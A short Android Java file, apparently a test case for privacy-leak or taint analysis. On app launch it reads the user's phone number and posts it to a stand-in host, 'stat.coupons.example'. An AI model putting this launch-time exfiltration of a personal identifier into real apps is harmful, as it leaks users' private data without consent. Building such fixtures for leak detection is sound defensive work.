package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        Post.send("http://stat.coupons.example/", phone.getLine1Number());
        new Thread(new Unchecked(phone.getLine1Number())).start();
    }
}
